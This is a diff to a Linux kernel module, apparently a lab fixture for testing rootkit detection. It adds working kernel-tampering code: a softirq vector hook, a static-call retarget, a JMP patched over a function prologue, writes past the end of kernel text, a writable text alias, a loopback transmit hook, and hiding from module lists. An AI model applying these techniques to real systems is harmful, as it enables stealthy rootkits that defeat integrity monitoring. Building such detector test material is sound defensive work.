@@ -1,8 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
 /*
  * lab_hidden.c - arms a kprobe, leaves executable memory behind that no record has, makes its own
- * text writable, changes tables of system calls and gates, pointers to functions and a constant, and
- * takes itself off the list of modules.
+ * text writable, changes tables of system calls and gates, pointers to functions, a constant, a static
+ * call and the beginning of a function, and takes itself off the list of modules.
  * Built as lab_absent, it leaves /sys/module as well; built as lab_unlisted, all places where the
  * kernel keeps modules.
  */
@@ -250,7 +250,109 @@ static int change_data(void)
 	       change_constant();
 }
 
+/* zero as built; nobody raises this one in the guest */
+static void hidden_softirq(void)
+{
+}
+
+#define UNUSED_SOFTIRQ IRQ_POLL_SOFTIRQ
+
+static int change_variable(void)
+{
+	unsigned long *at = (void *)look_up("softirq_vec");
+
+	if (!at)
+		return 0;
+	pr_info("lab_hidden: variable %px softirq_vec\n", hidden_softirq);
+	return write_word((unsigned long)&at[UNUSED_SOFTIRQ], (unsigned long)hidden_softirq);
+}
+
+#ifdef CONFIG_X86_64
+/* of a tracepoint that is off */
+static void change_static_call(void)
+{
+	void (*update)(void *, void *, void *) = (void *)look_up("__static_call_update");
+	unsigned long *key = (void *)look_up("__SCK__tp_func_block_unplug");
+	void *trampoline = (void *)look_up("__SCT__tp_func_block_unplug");
+
+	if (!update || !key || !trampoline)
+		return;
+	pr_info("lab_hidden: pointer %px %ps\n", hidden_softirq, (void *)*key);
+	update(key, trampoline, hidden_softirq);
+}
+
+/* a jump over the beginning of a function that nobody calls */
+static int change_beginning(void)
+{
+	unsigned long at = look_up("orderly_reboot"), to = (unsigned long)hidden_softirq, word;
+
+	if (!at)
+		return -ENOENT;
+	word = *(unsigned long *)at & ~0xffffffffffUL;
+	pr_info("lab_hidden: beginning %lx\n", at);
+	return write_word(at, word | 0xe9 | (u64)(u32)(to - (at + 5)) << 8);
+}
+
+/* what the linker left of the last page of text */
+static int write_behind(void)
+{
+	unsigned long at = ALIGN(look_up("_etext"), sizeof(at));
+
+	if (!offset_in_page(at))
+		return 0;
+	pr_info("lab_hidden: behind %lx\n", at);
+	return write_word(at, 0xc3909090);
+}
+
+/* what the kernel protects where it has all of memory mapped */
+static int open_alias(void)
+{
+	unsigned long at = (unsigned long)__va(__pa_symbol((void *)look_up("_stext")));
+	pte_t *(*find_entry)(unsigned long, unsigned int *) = (void *)look_up("lookup_address");
+	unsigned int level;
+	unsigned long *entry = find_entry ? (unsigned long *)find_entry(at, &level) : NULL;
+
+	if (!entry)
+		return -ENOENT;
+	WRITE_ONCE(*entry, *entry | _PAGE_RW);
+	pr_info("lab_hidden: alias %lx\n", at & -(PAGE_SIZE << 9 * (level - 1)));
+	return 0;
+}
+
+static int change_text(void)
+{
+	change_static_call();
+	return change_beginning() ?: write_behind() ?: open_alias();
+}
+#else
+static int change_text(void)
+{
+	return 0;
+}
+#endif
+
 /* ---- what the kernel is asked to call ---- */
+
+static struct net_device_ops operations;
+
+static netdev_tx_t (*transmit)(struct sk_buff *skb, struct net_device *dev);
+
+static netdev_tx_t hidden_transmit(struct sk_buff *skb, struct net_device *dev)
+{
+	return transmit(skb, dev);
+}
+
+/* a copy of an interface's operations */
+static void change_interface(void)
+{
+	struct net_device *lo = init_net.loopback_dev;
+
+	operations = *lo->netdev_ops;
+	transmit = operations.ndo_start_xmit;
+	operations.ndo_start_xmit = hidden_transmit;
+	lo->netdev_ops = &operations;
+	pr_info("lab_hidden: registered %px interface lo: ndo_start_xmit\n", hidden_transmit);
+}
 
 #define DISTANT (3600 * HZ)
 
@@ -335,6 +437,7 @@ static int register_all(void)
 
 	if (err || IS_ERR(thread))
 		return err ?: PTR_ERR(thread);
+	change_interface();
 	dev_add_pack(&packet_type);
 	mod_timer(&timer, jiffies + DISTANT);
 	schedule_delayed_work(&delayed, DISTANT);
@@ -355,7 +458,8 @@ static int register_all(void)
 
 static int make_texts(void)
 {
-	int err = register_all() ?: join_chain() ?: change_calls() ?: change_gate() ?: change_data();
+	int err = register_all() ?: join_chain() ?: change_calls() ?: change_gate() ?: change_data() ?:
+		  change_variable() ?: change_text();
 
 	err = err ?: make_text("text", 2, false) ?: make_text("writable", 1, true);
 	return err ?: make_direct();
